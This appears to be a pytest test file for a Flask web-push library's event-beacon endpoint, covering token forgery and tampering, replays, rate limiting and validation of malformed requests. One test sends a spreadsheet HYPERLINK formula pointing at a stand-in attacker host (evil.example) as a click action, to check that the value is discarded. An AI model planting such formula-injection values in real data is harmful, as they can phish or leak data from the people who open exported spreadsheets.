"""POST /webpush/events: the service worker's displayed / clicked / closed beacons.

Every token here is a real one: a notification is sent by a real RQ worker to the
local push service, which decrypts the payload; the token is read from it. Every
test runs on SQLite and on PostgreSQL with the real Redis.
"""

from __future__ import annotations

import json
import random
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from agents import AGENTS, subscribe_with_agent
from conftest import SendingHost
from flask import Flask

from flask_webpush_targeted import signals, tracking
from flask_webpush_targeted.worker import make_worker

EVENTS = "/webpush/events"


def random_address() -> str:
    """A client address of this test's own: the rate limit counts per address in shared Redis."""
    return "10.{}.{}.{}".format(*(random.randint(1, 254) for _ in range(3)))


@dataclass
class Sent:
    """One notification sent for real to one device of user "1", and its delivery's token."""

    host: SendingHost
    nid: int
    delivery_id: int
    token: str
    address: str = field(default_factory=random_address)

    def post(self, body: Any = None, *, address: str | None = None, **kw: Any) -> Any:
        """POST from a fresh client: no cookie, no session, no CSRF token."""
        client = self.host.app.test_client(use_cookies=False)
        if body is not None:
            kw["json"] = body
        return client.post(EVENTS, environ_base={"REMOTE_ADDR": address or self.address}, **kw)

    def counted(self) -> dict[str, int]:
        with self.host.app.app_context():
            stats = self.host.webpush.stats(self.nid)
        return {k: stats[k] for k in ("displayed", "clicked", "closed")}

    def delivery(self) -> Any:
        [delivery] = self.host.deliveries(self.nid)
        return delivery


def send_for_real(host: SendingHost, **kw: Any) -> Sent:
    sub = host.subscribe("1", "Firefox on Linux")
    kw.setdefault("title", "Your order has shipped")
    with host.app.app_context():
        nid = int(host.webpush.notify_user("1", url="/orders/7", **kw).id)
    make_worker(host.app, simple=True).work(burst=True)
    [push] = host.push_service.received_for(sub.endpoint)
    [delivery] = host.deliveries(nid)
    assert delivery.status == "sent"
    return Sent(host, nid, delivery.id, push.notification()["token"])


@pytest.fixture
def sent(sending: SendingHost) -> Sent:
    return send_for_real(sending, actions=[{"action": "track", "title": "Track parcel"}])


@pytest.fixture
def tracked(sent: Sent) -> Iterator[list[dict[str, Any]]]:
    """What event_tracked reported for the sending host's app."""
    calls: list[dict[str, Any]] = []

    def receiver(app: Flask, **kw: Any) -> None:
        calls.append(kw)

    with signals.event_tracked.connected_to(receiver, sent.host.app):
        yield calls


def assert_error_shape(response: Any) -> None:
    assert response.is_json, response.get_data(as_text=True)
    body = response.get_json()
    assert set(body) == {"error", "message"}
    assert isinstance(body["error"], str) and body["error"]
    assert isinstance(body["message"], str) and body["message"]


NOTHING = {"displayed": 0, "clicked": 0, "closed": 0}


def test_a_genuine_token_counts_each_event_once_and_a_replay_is_accepted_not_counted(
    sent: Sent, tracked: list[dict[str, Any]],
) -> None:
    for event in ("displayed", "clicked", "closed"):
        first = sent.post({"token": sent.token, "event": event})
        assert first.status_code == 200 and first.get_json() == {"counted": True}
        replay = sent.post({"token": sent.token, "event": event})
        assert 200 <= replay.status_code < 300 and replay.get_json() == {"counted": False}
    assert sent.counted() == {"displayed": 1, "clicked": 1, "closed": 1}
    assert tracked == [{"kind": e, "delivery_id": sent.delivery_id, "action": None}
                       for e in ("displayed", "clicked", "closed")]


def test_the_event_time_is_the_servers_and_a_client_sent_time_is_refused(sent: Sent) -> None:
    claimed = {"token": sent.token, "event": "displayed", "time": "2001-01-01T00:00:00Z"}
    assert sent.post(claimed).status_code == 400
    assert sent.delivery().displayed_at is None
    before = datetime.now(UTC)
    assert sent.post({"token": sent.token, "event": "displayed"}).get_json()["counted"] is True
    after = datetime.now(UTC)
    assert before <= sent.delivery().displayed_at <= after


def test_events_count_under_the_platform_of_the_browsers_user_agent_never_its_label(
        sending: SendingHost) -> None:
    agent, platform = AGENTS["samsung-internet"]
    _sid, endpoint = subscribe_with_agent(sending, "1", agent, "Anna's phone")
    with sending.app.app_context():
        nid = int(sending.webpush.notify_user("1", title="Parcel ready").id)
    make_worker(sending.app, simple=True).work(burst=True)
    [push] = sending.push_service.received_for(endpoint)
    sent = Sent(sending, nid, sending.deliveries(nid)[0].id, push.notification()["token"])
    for event in ("displayed", "clicked"):
        assert sent.post({"token": sent.token, "event": event}).get_json() == {"counted": True}
    with sending.app.app_context():
        by_platform = sending.webpush.stats(nid)["by_platform"]
    assert [(p["platform"], p["displayed"], p["clicked"]) for p in by_platform
            if p["displayed"] or p["clicked"]] == [(platform, 1, 1)]
    assert "Anna's phone" not in {p["platform"] for p in by_platform}


def test_a_click_counts_but_an_action_the_notification_did_not_offer_is_not_stored(
        sent: Sent, tracked: list[dict[str, Any]]) -> None:
    typed = '=HYPERLINK("https://evil.example/?me=Anna","Refund")'
    response = sent.post({"token": sent.token, "event": "clicked", "action": typed})
    assert response.get_json() == {"counted": True}
    delivery = sent.delivery()
    assert delivery.clicked_at is not None and delivery.action is None
    assert sent.counted() == {"displayed": 1, "clicked": 1, "closed": 0}
    # the host's receivers are told what was kept, not the beacon's text
    assert tracked == [{"kind": "clicked", "delivery_id": sent.delivery_id, "action": None}]


def test_a_click_on_an_action_button_records_the_action(
    sent: Sent, tracked: list[dict[str, Any]],
) -> None:
    response = sent.post({"token": sent.token, "event": "clicked", "action": "track"})
    assert response.get_json() == {"counted": True}
    delivery = sent.delivery()
    assert delivery.action == "track" and delivery.clicked_at is not None
    # a click proves the notification was shown, even if its displayed beacon was lost
    assert delivery.displayed_at == delivery.clicked_at
    assert sent.counted() == {"displayed": 1, "clicked": 1, "closed": 0}
    assert tracked == [{"kind": "clicked", "delivery_id": sent.delivery_id, "action": "track"}]


def _forged(sent: Sent) -> str:
    attacker = Flask("attacker")
    attacker.config["SECRET_KEY"] = "not-the-shops-secret"
    with attacker.app_context():
        key = tracking.signing_key()
    return tracking.make_token(sent.delivery_id, time.time() + 86400, key=key)


def _tampered(token: str, part: int) -> str:
    pieces = token.split(".")
    # the first character of a part carries six full bits: changing it changes the bytes
    first = pieces[part][0]
    pieces[part] = ("B" if first == "A" else "A") + pieces[part][1:]
    return ".".join(pieces)


def _expired(sent: Sent) -> str:
    with sent.host.app.app_context():
        return tracking.make_token(sent.delivery_id, time.time() - 1)


def _no_such_delivery(sent: Sent) -> str:
    with sent.host.app.app_context():
        return tracking.make_token(sent.delivery_id + 1000, time.time() + 86400)


@pytest.mark.parametrize(("make_token", "why"), [
    pytest.param(_forged, "bad signature", id="forged-with-another-secret-key"),
    pytest.param(lambda s: _tampered(s.token, 0), "bad signature", id="tampered-data-part"),
    pytest.param(lambda s: _tampered(s.token, 1), "bad signature", id="tampered-mac"),
    pytest.param(_expired, "expired", id="expired"),
    pytest.param(_no_such_delivery, "no delivery", id="valid-for-a-delivery-that-does-not-exist"),
    pytest.param(lambda s: "garbage", "malformed", id="not-a-token"),
])
def test_a_bad_token_is_refused_with_the_json_error_and_counts_nothing(
    sent: Sent, tracked: list[dict[str, Any]], make_token: Any, why: str,
) -> None:
    token = make_token(sent)
    assert token != sent.token
    for event in ("displayed", "clicked", "closed"):
        response = sent.post({"token": token, "event": event})
        assert response.status_code == 403
        assert_error_shape(response)
        assert response.get_json()["error"] == "invalid_token"
        assert why in response.get_json()["message"]
    assert sent.counted() == NOTHING and tracked == []
    delivery = sent.delivery()
    assert (delivery.displayed_at, delivery.clicked_at, delivery.closed_at) == (None, None, None)


@pytest.mark.parametrize(("request_kw", "status"), [
    pytest.param(lambda t: {"json": {"token": t, "event": "opened"}}, 400, id="unknown-event"),
    pytest.param(lambda t: {"json": {"event": "displayed"}}, 403, id="missing-token"),
    pytest.param(lambda t: {"data": "{'token': 1", "content_type": "application/json"}, 400,
                 id="not-json"),
    pytest.param(lambda t: {"data": json.dumps({"token": t, "event": "displayed"}),
                            "content_type": "text/plain"}, 400, id="wrong-content-type"),
    pytest.param(lambda t: {"json": {"token": t, "event": "displayed", "user": "1"}}, 400,
                 id="unknown-field"),
    pytest.param(lambda t: {"json": [t, "displayed"]}, 400, id="not-an-object"),
    pytest.param(lambda t: {"json": {"token": t, "event": "clicked", "action": "x" * 65}}, 400,
                 id="action-too-long"),
    pytest.param(lambda t: {"json": {"token": t, "event": "displayed", "action": "a" * 5000}},
                 413, id="body-over-max-request-bytes"),
])
def test_a_malformed_request_is_refused_and_counts_nothing(
    sent: Sent, tracked: list[dict[str, Any]], request_kw: Any, status: int,
) -> None:
    kw = request_kw(sent.token)
    if status == 413:
        assert len(json.dumps(kw["json"])) > sent.host.app.config["WEBPUSH_MAX_REQUEST_BYTES"]
    response = sent.post(**kw)
    assert response.status_code == status
    assert_error_shape(response)
    assert sent.counted() == NOTHING and tracked == []


def test_no_cookie_and_no_csrf_token_are_needed_and_none_is_set(sent: Sent) -> None:
    response = sent.post({"token": sent.token, "event": "displayed"})
    assert response.status_code == 200 and response.get_json() == {"counted": True}
    assert "Set-Cookie" not in response.headers
    assert sent.counted()["displayed"] == 1


@pytest.fixture
def limited(make_host: Callable[..., SendingHost]) -> Sent:
    return send_for_real(make_host(WEBPUSH_EVENTS_RATE_LIMIT=3))


def test_the_fourth_event_in_a_minute_from_one_address_is_rate_limited(limited: Sent) -> None:
    if time.time() % 60 > 55:  # the limit counts per clock minute: do not straddle two
        time.sleep(60 - time.time() % 60 + 0.1)
    for _ in range(3):
        assert limited.post({"token": limited.token, "event": "displayed"}).status_code == 200
    refused = limited.post({"token": limited.token, "event": "clicked"})
    assert refused.status_code == 429
    assert_error_shape(refused)
    assert refused.get_json()["error"] == "rate_limited"
    assert 1 <= int(refused.headers["Retry-After"]) <= 60
    assert limited.counted() == {"displayed": 1, "clicked": 0, "closed": 0}
    # the limit is per address: another client is still heard
    other = limited.post({"token": limited.token, "event": "clicked"}, address=random_address())
    assert other.get_json() == {"counted": True}


def test_the_token_outlives_the_validity_period_so_a_late_click_counts(
    sending: SendingHost,
) -> None:
    sent = send_for_real(sending, ttl=3)
    n = sending.notification(sent.nid)
    validity_end = (n.send_at or n.queued_at or n.created_at) + timedelta(seconds=n.ttl)
    with sending.app.app_context():
        late = validity_end.timestamp() + 3600
        assert tracking.read_token(sent.token, now=late) == sent.delivery_id
        with pytest.raises(tracking.InvalidToken, match="expired"):
            tracking.read_token(sent.token, now=validity_end.timestamp() + 30 * 86400)
    time.sleep(max(0.0, (validity_end - datetime.now(UTC)).total_seconds()) + 0.2)
    response = sent.post({"token": sent.token, "event": "clicked"})
    assert response.get_json() == {"counted": True}
    assert sent.counted() == {"displayed": 1, "clicked": 1, "closed": 0}
